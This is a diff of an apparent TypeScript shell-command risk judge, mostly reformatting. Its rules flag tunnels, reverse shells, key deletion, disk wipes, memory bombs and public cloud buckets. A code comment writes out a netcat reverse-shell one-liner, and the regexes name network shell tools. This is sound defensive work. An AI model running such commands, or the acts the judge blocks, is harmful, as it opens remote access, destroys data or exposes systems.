+        /^(?:restart|reload|try-restart|reload-or-restart|try-reload-or-restart|condrestart|force-reload|daemon-reexec|switch-root)$/.test(
+          verb,
+        ) &&
+        (verb === "daemon-reexec" || units.some((u) => SYSTEM_UNIT.test(u)))
+      )
+        return add(ctx, "service_change");
       return;
     }
     case "service":
     case "rc-service":
     case "invoke-rc.d": {
       const [unit = "", verb = ""] = words;
-      if (/^(?:restart|reload|force-reload|try-restart|condrestart|zap)$/.test(verb) && SYSTEM_UNIT.test(unit)) add(ctx, "service_change");
+      if (/^(?:restart|reload|force-reload|try-restart|condrestart|zap)$/.test(verb) && SYSTEM_UNIT.test(unit))
+        add(ctx, "service_change");
       return;
     }
     case "rcctl":
@@ -2891,7 +4133,12 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
       if (/^(?:restart|reload|enable|set|order)$/.test(words[0] ?? "")) return add(ctx, "service_change");
       return;
     case "loginctl":
-      if (/^(?:terminate-user|terminate-session|terminate-seat|kill-user|kill-session|lock-sessions|enable-linger|disable-linger|attach|flush-devices)$/.test(words[0] ?? "")) add(ctx, "service_change");
+      if (
+        /^(?:terminate-user|terminate-session|terminate-seat|kill-user|kill-session|lock-sessions|enable-linger|disable-linger|attach|flush-devices)$/.test(
+          words[0] ?? "",
+        )
+      )
+        add(ctx, "service_change");
       return;
     case "sv":
     case "s6-rc":
@@ -2904,7 +4151,14 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
       if (name === "at" && !args.length) return;
       return add(ctx, "schedule_job");
     case "systemd-run":
-      if (args.some((a) => /^--on-(?:calendar|active|boot|startup|unit-active|unit-inactive|clock-change|timezone-change)\b|^--timer-property\b/.test(a.text))) add(ctx, "schedule_job");
+      if (
+        args.some((a) =>
+          /^--on-(?:calendar|active|boot|startup|unit-active|unit-inactive|clock-change|timezone-change)\b|^--timer-property\b/.test(
+            a.text,
+          ),
+        )
+      )
+        add(ctx, "schedule_job");
       return;
     // Mounts of remote or FUSE file systems.
     case "sshfs":
@@ -2929,16 +4183,26 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
       if (/^(?:tcp|http|tls|start|tunnel)$/.test(words[0] ?? "")) add(ctx, "remote_access");
       return;
     case "cloudflared":
-      if ((words.includes("tunnel") && !words.some((w) => /^(?:list|info|login|token|version|help|cleanup|delete)$/.test(w))) || (words[0] === "access" && /^(?:tcp|ssh|rdp|smb)$/.test(words[1] ?? ""))) add(ctx, "remote_access");
+      if (
+        (words.includes("tunnel") &&
+          !words.some((w) => /^(?:list|info|login|token|version|help|cleanup|delete)$/.test(w))) ||
+        (words[0] === "access" && /^(?:tcp|ssh|rdp|smb)$/.test(words[1] ?? ""))
+      )
+        add(ctx, "remote_access");
       return;
     case "chisel":
-      if ((words[0] === "client" && words.some((w) => /^R:/i.test(w))) || (words[0] === "server" && has("--reverse"))) add(ctx, "remote_access");
+      if ((words[0] === "client" && words.some((w) => /^R:/i.test(w))) || (words[0] === "server" && has("--reverse")))
+        add(ctx, "remote_access");
       return;
     case "tmate":
     case "upterm":
     case "sshx":
     case "teleconsole":
-      if (!has("-h", "--help", "-V", "--version") && !(name === "tmate" && words.some((w) => /^(?:ls|list-sessions|kill-server|kill-session)$/.test(w)))) add(ctx, "remote_access");
+      if (
+        !has("-h", "--help", "-V", "--version") &&
+        !(name === "tmate" && words.some((w) => /^(?:ls|list-sessions|kill-server|kill-session)$/.test(w)))
+      )
+        add(ctx, "remote_access");
       return;
     case "frpc":
     case "frps":
@@ -2954,14 +4218,26 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
       if (has("-h", "--help", "-v", "--version")) return;
       if (name === "bore" && words[0] !== "local") return;
       if (name === "zrok" && words[0] !== "share") return;
-      if (name === "tailscale" && !(words[0] === "funnel" || words[0] === "serve" || (words[0] === "up" && has("--ssh")))) return;
+      if (
+        name === "tailscale" &&
+        !(words[0] === "funnel" || words[0] === "serve" || (words[0] === "up" && has("--ssh")))
+      )
+        return;
       if (name === "lt" && !has("--port", "-p")) return;
       add(ctx, "remote_access");
       return;
     // Credentials destroyed: secret keys deleted from the keyring.
     case "gpg":
     case "gpg2":
-      if (has("--delete-secret-keys", "--delete-secret-and-public-keys", "--delete-keys", "--delete-key", "--delete-secret-key")) {
+      if (
+        has(
+          "--delete-secret-keys",
+          "--delete-secret-and-public-keys",
+          "--delete-keys",
+          "--delete-key",
+          "--delete-secret-key",
+        )
+      ) {
         const home = texts.findIndex((t) => t === "--homedir");
         const dir = home >= 0 ? texts[home + 1] : texts.find((t) => t.startsWith("--homedir="))?.slice(10);
         if (dir === undefined || !isInsideLike(whereIn(ctx, dir))) add(ctx, "credential_write");
@@ -2969,7 +4245,13 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
       return;
     // ssh-keygen generating a key writes the -f file (and FILE.pub): over a key in ~/.ssh, the key is lost.
     case "ssh-keygen": {
-      if (hasFlag(args.filter((a) => a.text !== "-f"), "lyBFHLQDeikRrAYs")) return;
+      if (
+        hasFlag(
+          args.filter((a) => a.text !== "-f"),
+          "lyBFHLQDeikRrAYs",
+        )
+      )
+        return;
       const f = texts.findIndex((t) => t === "-f");
       const file = f >= 0 ? texts[f + 1] : texts.find((t) => /^-f./.test(t))?.slice(2);
       if (file) {
@@ -3018,13 +4300,24 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
       if (name === "mtd_debug" && !/^(?:write|erase)$/.test(words[0] ?? "")) return;
       for (const o of operands(args)) {
         const t = o.text.replace(/^(?:of|hof|vf)=/, "");
-        if (whereIn(ctx, t) === "device") return add(ctx, /erase|ubiformat|flash_unlock|flash_lock/.test(name) ? "erase_device" : "disk_write");
+        if (whereIn(ctx, t) === "device")
+          return add(ctx, /erase|ubiformat|flash_unlock|flash_lock/.test(name) ? "erase_device" : "disk_write");
       }
-      if ((name === "dcfldd" || name === "dc3dd") && args.some((a) => /^(?:of|hof)=\/dev\/(?!null|zero|stdout|stderr)/.test(a.text))) add(ctx, "disk_write");
+      if (
+        (name === "dcfldd" || name === "dc3dd") &&
+        args.some((a) => /^(?:of|hof)=\/dev\/(?!null|zero|stdout|stderr)/.test(a.text))
+      )
+        add(ctx, "disk_write");
       return;
   }
   // A shell whose output goes to a network connection (`sh -i < /tmp/f 2>&1 | nc host 4242 > /tmp/f`): a reverse shell.
-  if (/^(?:nc|ncat|netcat|socat|telnet|openssl|cryptcat|pwncat|pwncat-cs)$/.test(name) && ctx.producer && SHELLS.has(ctx.producer.name) && !ctx.producer.args.some((a) => /^-[A-Za-z]*c/.test(a.text) || !a.text.startsWith("-"))) add(ctx, "remote_access");
+  if (
+    /^(?:nc|ncat|netcat|socat|telnet|openssl|cryptcat|pwncat|pwncat-cs)$/.test(name) &&
+    ctx.producer &&
+    SHELLS.has(ctx.producer.name) &&
+    !ctx.producer.args.some((a) => /^-[A-Za-z]*c/.test(a.text) || !a.text.startsWith("-"))
+  )
+    add(ctx, "remote_access");
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -3047,7 +4340,8 @@ const ENDLESS_DEVICE = /^\/dev\/(?:zero|u?random)$/;
 
 /** A process that only passes on a bounded prefix of its input (`head -c 10M`, `dd count=…`). */
 function bounds(name: string, args: JudgedArg[]): boolean {
-  if (name === "head" || name === "pv" && args.some((a) => /^-[a-zA-Z]*S$|^--stop-at-size$/.test(a.text))) return true;
+  if (name === "head" || (name === "pv" && args.some((a) => /^-[a-zA-Z]*S$|^--stop-at-size$/.test(a.text))))
+    return true;
   if (name === "dd") return args.some((a) => /^(?:count|iflag=.*count_bytes)=/.test(a.text));
   if (name === "sed") return args.some((a) => /^\d+q$|^-n$/.test(a.text));
   if (name === "awk" || name === "gawk" || name === "mawk") return args.some((a) => /\bexit\b|NR\s*[<>=]/.test(a.text));
@@ -3060,7 +4354,8 @@ function endlessOutput(ctx: JudgeContext): boolean {
   if (bounds(name, args)) return false;
   if (name === "yes") return true;
   if (/^(?:cat|tac|pv|tee|tr|base64|base32|xxd|od|hexdump|openssl|gzip|cat|strings|sort|uniq|cut)$/.test(name)) {
-    if (args.some((a) => ENDLESS_DEVICE.test(a.text) || /^(?:-in|--input)=?\/dev\/(?:zero|u?random)$/.test(a.text))) return true;
+    if (args.some((a) => ENDLESS_DEVICE.test(a.text) || /^(?:-in|--input)=?\/dev\/(?:zero|u?random)$/.test(a.text)))
+      return true;
     if (ctx.redirects.some((r) => r.op === "<" && ENDLESS_DEVICE.test(r.target))) return true;
   }
   if (name === "dd" && args.some((a) => /^if=\/dev\/(?:zero|u?random)$/.test(a.text))) return true;
@@ -3068,7 +4363,11 @@ function endlessOutput(ctx: JudgeContext): boolean {
   let p = ctx.producer;
   for (let guard = 0; p && guard < 8; guard++, p = p.before) {
     if (bounds(p.name, p.args)) return false;
-    if (p.name === "yes" || (/^(?:cat|pv|dd|openssl|tr)$/.test(p.name) && p.args.some((a) => ENDLESS_DEVICE.test(a.text.replace(/^if=/, ""))))) return !/^(?:grep|wc|sha\d*sum|md5sum|cksum|b2sum|true|false|:|less|more)$/.test(name);
+    if (
+      p.name === "yes" ||
+      (/^(?:cat|pv|dd|openssl|tr)$/.test(p.name) && p.args.some((a) => ENDLESS_DEVICE.test(a.text.replace(/^if=/, ""))))
+    )
+      return !/^(?:grep|wc|sha\d*sum|md5sum|cksum|b2sum|true|false|:|less|more)$/.test(name);
   }
   return false;
 }
@@ -3077,29 +4376,66 @@ function endlessOutput(ctx: JudgeContext): boolean {
 function memoryBomb(code: string): boolean {
   // An endless loop that doubles a value (`s += s`, `a = a + a`, `x *= 2` on a list or string) or starts a process or thread on
   // every turn (`multiprocessing.Process(…).start()`, `fork()`, `child_process.spawn`, `new Worker`): memory or processes run out.
-  const endless = /\bwhile\s*\(?\s*(?:True|1|true|!0|!false)\s*\)?|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bloop\s*\{|\bitertools\.count\(|\bsetInterval\(/;
+  const endless =
+    /\bwhile\s*\(?\s*(?:True|1|true|!0|!false)\s*\)?|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bloop\s*\{|\bitertools\.count\(|\bsetInterval\(/;
   if (endless.test(code)) {
     if (/\b(\w+)\s*\+=\s*\1\b|\b(\w+)\s*=\s*\2\s*[+*]\s*\2\b|\b(\w+)\s*\*=\s*\d/.test(code)) return true;
     // Files written on every turn (`open(f'/tmp/f{random()}', 'w').write(…)`, `f.write(…)`, `appendFileSync`): the disk fills.
-    if (/\.write(?:_bytes|_text)?\s*\(|\b(?:appendFileSync|writeFileSync|File\.write|IO\.write|fwrite|file_put_contents)\s*\(/.test(code) && !/\b(?:sleep|break|last|return|exit|raise|throw|input|readline|recv)\b/.test(code)) return true;
-    if (/\b(?:push|append|extend|unshift|add)\s*[(@ ]/.test(code) && !/\b(?:sleep|break|last|return|exit|raise|throw|join|wait|await|input|readline|recv|read|get)\b/.test(code)) return true;
-    if (/\b(?:Process|Thread|Popen|fork|spawn|exec|execFile|Worker|Pool)\s*\(|\bsubprocess\.\w+\(|\bos\.system\(|\bchild_process\b|\bThread\.new\b|\bspawn\b/.test(code) && !/\b(?:sleep|break|join|wait|await|time\.sleep|setTimeout)\b/.test(code)) return true;
+    if (
+      /\.write(?:_bytes|_text)?\s*\(|\b(?:appendFileSync|writeFileSync|File\.write|IO\.write|fwrite|file_put_contents)\s*\(/.test(
+        code,
+      ) &&
+      !/\b(?:sleep|break|last|return|exit|raise|throw|input|readline|recv)\b/.test(code)
+    )
+      return true;
+    if (
+      /\b(?:push|append|extend|unshift|add)\s*[(@ ]/.test(code) &&
+      !/\b(?:sleep|break|last|return|exit|raise|throw|join|wait|await|input|readline|recv|read|get)\b/.test(code)
+    )
+      return true;
+    if (
+      /\b(?:Process|Thread|Popen|fork|spawn|exec|execFile|Worker|Pool)\s*\(|\bsubprocess\.\w+\(|\bos\.system\(|\bchild_process\b|\bThread\.new\b|\bspawn\b/.test(
+        code,
+      ) &&
+      !/\b(?:sleep|break|join|wait|await|time\.sleep|setTimeout)\b/.test(code)
+    )
+      return true;
   }
-  const alloc = /\b(?:bytearray|bytes|bytes?\(|np\.(?:zeros|ones|empty|full)|numpy\.(?:zeros|ones|empty)|torch\.(?:zeros|ones|empty|randn?)|malloc|calloc|Buffer\.(?:alloc\w*)|new\s+(?:Array|ArrayBuffer|Uint8Array|Float64Array)|make\(\[\]|' '\s*\*|"\s*"\s*\*|'x'\s*\*|"x"\s*\*|\[0\]\s*\*|\.repeat\(|\*\s*\(?\s*1\s*<<|'a'\s*\*|"a"\s*\*|b'\\x00'\s*\*|b"\\0"\s*\*)/;
+  const alloc =
+    /\b(?:bytearray|bytes|bytes?\(|np\.(?:zeros|ones|empty|full)|numpy\.(?:zeros|ones|empty)|torch\.(?:zeros|ones|empty|randn?)|malloc|calloc|Buffer\.(?:alloc\w*)|new\s+(?:Array|ArrayBuffer|Uint8Array|Float64Array)|make\(\[\]|' '\s*\*|"\s*"\s*\*|'x'\s*\*|"x"\s*\*|\[0\]\s*\*|\.repeat\(|\*\s*\(?\s*1\s*<<|'a'\s*\*|"a"\s*\*|b'\\x00'\s*\*|b"\\0"\s*\*)/;
   // (Perl repeats with `x`: `"A" x (2**40)`, `(0) x 1e12`.)
-  if (!alloc.test(code) && !/\.repeat\(/.test(code) && !/(?:'[^'\n]{0,8}'|"[^"\n]{0,8}"|b'[^'\n]{0,8}'|\[[^\]\n]{0,16}\]|\([^()\n]{0,16}\))\s*(?:\*|\bx\b)\s*\(?\s*\d/.test(code)) return false;
+  if (
+    !alloc.test(code) &&
+    !/\.repeat\(/.test(code) &&
+    !/(?:'[^'\n]{0,8}'|"[^"\n]{0,8}"|b'[^'\n]{0,8}'|\[[^\]\n]{0,16}\]|\([^()\n]{0,16}\))\s*(?:\*|\bx\b)\s*\(?\s*\d/.test(
+      code,
+    )
+  )
+    return false;
   // Magnitudes written in the code: 1<<N, 2**N, 10**N, NeM, plain integers.
   let log2 = 0;
   const mags: number[] = [];
-  for (const m of code.matchAll(/\b(\d+)\s*<<\s*(\d+)|\b(\d+)\s*\*\*\s*(\d+)|\b(\d+(?:\.\d+)?)[eE](\d+)|\b(\d{6,})\b/g)) {
-    const v = m[1] ? Math.log2(Number(m[1])) + Number(m[2]) : m[3] ? Number(m[4]) * Math.log2(Number(m[3])) : m[5] ? Math.log2(Number(m[5])) + Number(m[6]) * Math.log2(10) : Math.log2(Number(m[7]));
+  for (const m of code.matchAll(
+    /\b(\d+)\s*<<\s*(\d+)|\b(\d+)\s*\*\*\s*(\d+)|\b(\d+(?:\.\d+)?)[eE](\d+)|\b(\d{6,})\b/g,
+  )) {
+    const v = m[1]
+      ? Math.log2(Number(m[1])) + Number(m[2])
+      : m[3]
+        ? Number(m[4]) * Math.log2(Number(m[3]))
+        : m[5]
+          ? Math.log2(Number(m[5])) + Number(m[6]) * Math.log2(10)
+          : Math.log2(Number(m[7]));
     if (v >= 10) mags.push(v);
   }
   mags.sort((a, b) => b - a);
   log2 = (mags[0] ?? 0) + (mags[1] ?? 0);
   if (log2 >= 36) return true; // 64 GiB or more
   // An allocation appended on every turn of an endless loop.
-  return /\bwhile\s*\(?\s*(?:True|1|true)\s*\)?\s*[:{]|\bwhile\s*\(\s*(?:true|1|!0)\s*\)|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bfor\s*\{|\biter\(\s*int\s*,\s*1\s*\)|\bitertools\.count\(|\bitertools\.(?:cycle|repeat\(\s*[^,()]+\))|\bloop\s*\{/.test(code) && /\.(?:append|push|extend)\(|\+=/.test(code);
+  return (
+    /\bwhile\s*\(?\s*(?:True|1|true)\s*\)?\s*[:{]|\bwhile\s*\(\s*(?:true|1|!0)\s*\)|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s+do\b|\bfor\s*\{|\biter\(\s*int\s*,\s*1\s*\)|\bitertools\.count\(|\bitertools\.(?:cycle|repeat\(\s*[^,()]+\))|\bloop\s*\{/.test(
+      code,
+    ) && /\.(?:append|push|extend)\(|\+=/.test(code)
+  );
 }
 
 function judgeWiderEffects(ctx: JudgeContext, name: string): void {
@@ -3113,17 +4449,41 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       for (const o of opts) {
         if (texts[k] === o) return texts[k + 1];
         if ((o.startsWith("--") || o.length > 2) && texts[k]!.startsWith(o + "=")) return texts[k]!.slice(o.length + 1);
-        if (!o.startsWith("--") && o.length === 2 && texts[k]!.startsWith(o) && texts[k]!.length > 2 && !texts[k]!.startsWith("--")) return texts[k]!.slice(2);
+        if (
+          !o.startsWith("--") &&
+          o.length === 2 &&
+          texts[k]!.startsWith(o) &&
+          texts[k]!.length > 2 &&
+          !texts[k]!.startsWith("--")
+        )
+          return texts[k]!.slice(2);
       }
     }
     return undefined;
   };
 
   // Resource exhaustion: an endless stream written to a file (or kept in the background), files of enormous sizes.
-  if (ctx.redirects.some((r) => /^(?:>|>>|&>|&>>)$/.test(r.op) && (!r.fd || r.fd === "1" || r.op.startsWith("&")) && whereIn(ctx, r.target) !== "sink" && whereIn(ctx, r.target) !== "device" && r.body === undefined) && endlessOutput(ctx)) add(ctx, "resource_exhaustion");
-  if (name === "tee" && endlessOutput(ctx) && operands(args).some((o) => whereIn(ctx, o.text) !== "sink")) add(ctx, "resource_exhaustion");
+  if (
+    ctx.redirects.some(
+      (r) =>
+        /^(?:>|>>|&>|&>>)$/.test(r.op) &&
+        (!r.fd || r.fd === "1" || r.op.startsWith("&")) &&
+        whereIn(ctx, r.target) !== "sink" &&
+        whereIn(ctx, r.target) !== "device" &&
+        r.body === undefined,
+    ) &&
+    endlessOutput(ctx)
+  )
+    add(ctx, "resource_exhaustion");
+  if (name === "tee" && endlessOutput(ctx) && operands(args).some((o) => whereIn(ctx, o.text) !== "sink"))
+    add(ctx, "resource_exhaustion");
   if (name === "fallocate" || name === "truncate" || name === "mkfile" || name === "xfs_mkfile") {
-    const size = name === "fallocate" ? valueOf("-l", "--length") : name === "truncate" ? valueOf("-s", "--size") : operands(args)[0]?.text;
+    const size =
+      name === "fallocate"
+        ? valueOf("-l", "--length")
+        : name === "truncate"
+          ? valueOf("-s", "--size")
+          : operands(args)[0]?.text;
     if (size !== undefined && sizeBytes(size) >= HUGE) add(ctx, "resource_exhaustion");
   }
   if (name === "dd") {
@@ -3132,9 +4492,16 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
     const count = texts.find((t) => t.startsWith("count="))?.slice(6);
     const seek = texts.find((t) => /^(?:seek|oseek)=/.test(t))?.replace(/^\w+=/, "");
     if (of !== undefined && whereIn(ctx, of) !== "sink" && whereIn(ctx, of) !== "device") {
-      if (count === undefined && texts.some((t) => /^if=\/dev\/(?:zero|u?random)$/.test(t))) add(ctx, "resource_exhaustion");
+      if (count === undefined && texts.some((t) => /^if=\/dev\/(?:zero|u?random)$/.test(t)))
+        add(ctx, "resource_exhaustion");
       else if (count !== undefined && bs * sizeBytes(count) >= HUGE) add(ctx, "resource_exhaustion");
-      else if (seek !== undefined && bs * sizeBytes(seek) >= HUGE && !texts.some((t) => /conv=.*sparse/.test(t)) && count !== "0") add(ctx, "resource_exhaustion");
+      else if (
+        seek !== undefined &&
+        bs * sizeBytes(seek) >= HUGE &&
+        !texts.some((t) => /conv=.*sparse/.test(t)) &&
+        count !== "0"
+      )
+        add(ctx, "resource_exhaustion");
     }
   }
   if (name === "head" && ctx.redirects.some((r) => /^>/.test(r.op) && whereIn(ctx, r.target) !== "sink")) {
@@ -3147,9 +4514,22 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
     const timeout = valueOf("-t", "--timeout");
     const endless = timeout === undefined || /^0+[smhdy]?$/.test(timeout);
     const vmBytes = valueOf("--vm-bytes");
-    const fills = vmBytes !== undefined && (/%$/.test(vmBytes) ? parseFloat(vmBytes) >= 75 : sizeBytes(vmBytes) * Math.max(1, Number(valueOf("--vm", "-m") ?? 1)) >= 16 * 1024 ** 3);
-    const many = texts.some((t, k) => /^--(?:cpu|vm|hdd|io|fork|malloc|matrix|all|sequential)$|^-[cmdi]$/.test(t) && /^\d+$/.test(texts[k + 1] ?? "") && (Number(texts[k + 1]) === 0 || Number(texts[k + 1]) >= 32));
-    const seconds = timeout === undefined ? Infinity : parseFloat(timeout) * ({ s: 1, m: 60, h: 3600, d: 86400, y: 31536000 }[timeout.replace(/^[\d.]+/, "") || "s"] ?? 1);
+    const fills =
+      vmBytes !== undefined &&
+      (/%$/.test(vmBytes)
+        ? parseFloat(vmBytes) >= 75
+        : sizeBytes(vmBytes) * Math.max(1, Number(valueOf("--vm", "-m") ?? 1)) >= 16 * 1024 ** 3);
+    const many = texts.some(
+      (t, k) =>
+        /^--(?:cpu|vm|hdd|io|fork|malloc|matrix|all|sequential)$|^-[cmdi]$/.test(t) &&
+        /^\d+$/.test(texts[k + 1] ?? "") &&
+        (Number(texts[k + 1]) === 0 || Number(texts[k + 1]) >= 32),
+    );
+    const seconds =
+      timeout === undefined
+        ? Infinity
+        : parseFloat(timeout) *
+          ({ s: 1, m: 60, h: 3600, d: 86400, y: 31536000 }[timeout.replace(/^[\d.]+/, "") || "s"] ?? 1);
     if (endless || fills || (many && seconds > 60) || seconds > 3600) add(ctx, "resource_exhaustion");
   }
 
@@ -3159,16 +4539,36 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
     case "tofu":
     case "terragrunt": {
       const out = valueOf("-out", "--out");
-      if (words[0] === "plan" && has("-destroy", "--destroy") && out !== undefined && ctx.created.size < 64) ctx.created.add(`tf-destroy-plan:${posix.normalize(out)}`);
-      if (words[0] === "apply" && words.slice(1).some((w) => ctx.created.has(`tf-destroy-plan:${posix.normalize(w)}`))) add(ctx, "infra_teardown");
+      if (words[0] === "plan" && has("-destroy", "--destroy") && out !== undefined && ctx.created.size < 64)
+        ctx.created.add(`tf-destroy-plan:${posix.normalize(out)}`);
+      if (words[0] === "apply" && words.slice(1).some((w) => ctx.created.has(`tf-destroy-plan:${posix.normalize(w)}`)))
+        add(ctx, "infra_teardown");
       return;
     }
     case "az":
-      if (words[0] === "deployment" && words.includes("create") && /^complete$/i.test(valueOf("--mode") ?? "")) return add(ctx, "infra_teardown");
-      if (words[0] === "group" && words[1] === "deployment" && /^complete$/i.test(valueOf("--mode") ?? "")) return add(ctx, "infra_teardown");
-      if (words[0] === "storage" && words.includes("set-permission") && /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")) return add(ctx, "privilege_grant");
-      if (words[0] === "storage" && words[1] === "account" && /^true$/i.test(valueOf("--allow-blob-public-access") ?? "")) return add(ctx, "privilege_grant");
-      if (words[0] === "storage" && words[1] === "container" && words[2] === "create" && /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")) return add(ctx, "privilege_grant");
+      if (words[0] === "deployment" && words.includes("create") && /^complete$/i.test(valueOf("--mode") ?? ""))
+        return add(ctx, "infra_teardown");
+      if (words[0] === "group" && words[1] === "deployment" && /^complete$/i.test(valueOf("--mode") ?? ""))
+        return add(ctx, "infra_teardown");
+      if (
+        words[0] === "storage" &&
+        words.includes("set-permission") &&
+        /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        words[0] === "storage" &&
+        words[1] === "account" &&
+        /^true$/i.test(valueOf("--allow-blob-public-access") ?? "")
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        words[0] === "storage" &&
+        words[1] === "container" &&
+        words[2] === "create" &&
+        /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")
+      )
+        return add(ctx, "privilege_grant");
       return;
     case "kubeadm":
       if (words[0] === "reset" && !has("--dry-run")) return add(ctx, "cluster_teardown");
@@ -3189,7 +4589,11 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       return;
     case "kernelstub":
     case "bootctl":
-      if (name === "bootctl" && !/^(?:install|update|remove|set-default|set-oneshot|unlink|cleanup)$/.test(words[0] ?? "")) return;
+      if (
+        name === "bootctl" &&
+        !/^(?:install|update|remove|set-default|set-oneshot|unlink|cleanup)$/.test(words[0] ?? "")
+      )
+        return;
       add(ctx, "boot_config");
       return;
     // Every scheduled job removed (`atrm $(atq | cut -f1)`, a loop over atq).
@@ -3198,16 +4602,49 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       return;
     // Buckets made public.
     case "aws":
-      if (words[0] === "s3api" && /^put-(?:bucket|object)-acl$/.test(words[1] ?? "") && /^(?:public-read|public-read-write|authenticated-read)$/.test(valueOf("--acl") ?? "")) return add(ctx, "privilege_grant");
-      if (words[0] === "s3api" && texts.some((t) => /acs\.amazonaws\.com\/groups\/global\/(?:AllUsers|AuthenticatedUsers)/.test(t))) return add(ctx, "privilege_grant");
+      if (
+        words[0] === "s3api" &&
+        /^put-(?:bucket|object)-acl$/.test(words[1] ?? "") &&
+        /^(?:public-read|public-read-write|authenticated-read)$/.test(valueOf("--acl") ?? "")
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        words[0] === "s3api" &&
+        texts.some((t) => /acs\.amazonaws\.com\/groups\/global\/(?:AllUsers|AuthenticatedUsers)/.test(t))
+      )
+        return add(ctx, "privilege_grant");
       if (words[0] === "s3api" && words[1] === "delete-public-access-block") return add(ctx, "privilege_grant");
-      if (words[0] === "s3api" && words[1] === "put-public-access-block" && texts.some((t) => /Block\w*=false|"Block\w*"\s*:\s*false/i.test(t))) return add(ctx, "privilege_grant");
-      if (words[0] === "s3api" && words[1] === "put-bucket-policy" && texts.some((t) => /"Principal"\s*:\s*(?:"\*"|\{\s*"AWS"\s*:\s*"\*")/.test(t) && /"Effect"\s*:\s*"Allow"/.test(t))) return add(ctx, "privilege_grant");
-      if (words[0] === "s3" && words.some((w) => w === "cp" || w === "sync") && /^public-read(?:-write)?$/.test(valueOf("--acl") ?? "")) return;
+      if (
+        words[0] === "s3api" &&
+        words[1] === "put-public-access-block" &&
+        texts.some((t) => /Block\w*=false|"Block\w*"\s*:\s*false/i.test(t))
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        words[0] === "s3api" &&
+        words[1] === "put-bucket-policy" &&
+        texts.some(
+          (t) => /"Principal"\s*:\s*(?:"\*"|\{\s*"AWS"\s*:\s*"\*")/.test(t) && /"Effect"\s*:\s*"Allow"/.test(t),
+        )
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        words[0] === "s3" &&
+        words.some((w) => w === "cp" || w === "sync") &&
+        /^public-read(?:-write)?$/.test(valueOf("--acl") ?? "")
+      )
+        return;
       return;
     case "gsutil":
     case "gcloud":
-      if (texts.some((t) => /(?:^|[\s:=,])(?:allUsers|allAuthenticatedUsers|AllUsers|AllAuthenticatedUsers)(?::|$)/.test(t) || /^(?:member=)?(?:allUsers|allAuthenticatedUsers)$/.test(t) || /^--member=(?:allUsers|allAuthenticatedUsers)$/.test(t))) {
+      if (
+        texts.some(
+          (t) =>
+            /(?:^|[\s:=,])(?:allUsers|allAuthenticatedUsers|AllUsers|AllAuthenticatedUsers)(?::|$)/.test(t) ||
+            /^(?:member=)?(?:allUsers|allAuthenticatedUsers)$/.test(t) ||
+            /^--member=(?:allUsers|allAuthenticatedUsers)$/.test(t),
+        )
+      ) {
         if (name === "gsutil" && !/^(?:iam|acl|defacl)$/.test(words[0] ?? "")) return;
         if (name === "gsutil" && (words[1] === "get" || words[1] === "get-default")) return;
         return add(ctx, "privilege_grant");
@@ -3218,11 +4655,26 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       if (words[0] === "api") {
         const method = (valueOf("-X", "--method") ?? "").toUpperCase();
         const path = words.slice(1).find((w) => /\//.test(w)) ?? "";
-        const fields = texts.filter((t, k) => /^-(?:f|F)$|^--(?:field|raw-field)$/.test(texts[k - 1] ?? "") || /^--(?:field|raw-field)=/.test(t)).map((t) => t.replace(/^--(?:raw-)?field=/, ""));
-        if (/\/(?:collaborators|memberships|teams\/[^/]+\/repos|invitations|members)\b/.test(path) && fields.some((f) => /^(?:permission|role)=(?:admin|maintain|owner)$/i.test(f))) return add(ctx, "privilege_grant");
+        const fields = texts
+          .filter(
+            (t, k) =>
+              /^-(?:f|F)$|^--(?:field|raw-field)$/.test(texts[k - 1] ?? "") || /^--(?:field|raw-field)=/.test(t),
+          )
+          .map((t) => t.replace(/^--(?:raw-)?field=/, ""));
+        if (
+          /\/(?:collaborators|memberships|teams\/[^/]+\/repos|invitations|members)\b/.test(path) &&
+          fields.some((f) => /^(?:permission|role)=(?:admin|maintain|owner)$/i.test(f))
+        )
+          return add(ctx, "privilege_grant");
         const ref = /\/git\/refs\/(?:heads\/)?(.+)$/.exec(path)?.[1];
-        if (/^(?:PATCH|PUT|POST)$/.test(method) && fields.some((f) => /^(?:private=false|visibility=public)$/i.test(f))) return add(ctx, "privilege_grant");
-        if (ref !== undefined && PROTECTED_BRANCH.test(ref) && ((method === "PATCH" && fields.some((f) => /^force=true$/i.test(f))) || method === "DELETE")) return add(ctx, "git_force_push");
+        if (/^(?:PATCH|PUT|POST)$/.test(method) && fields.some((f) => /^(?:private=false|visibility=public)$/i.test(f)))
+          return add(ctx, "privilege_grant");
+        if (
+          ref !== undefined &&
+          PROTECTED_BRANCH.test(ref) &&
+          ((method === "PATCH" && fields.some((f) => /^force=true$/i.test(f))) || method === "DELETE")
+        )
+          return add(ctx, "git_force_push");
         if (/\/branches\/[^/]+\/protection\b/.test(path) && method === "DELETE") return add(ctx, "security_change");
       }
       return;
@@ -3230,18 +4682,42 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
     case "kubectl":
     case "oc": {
       const target = words.slice(1).join(" ");
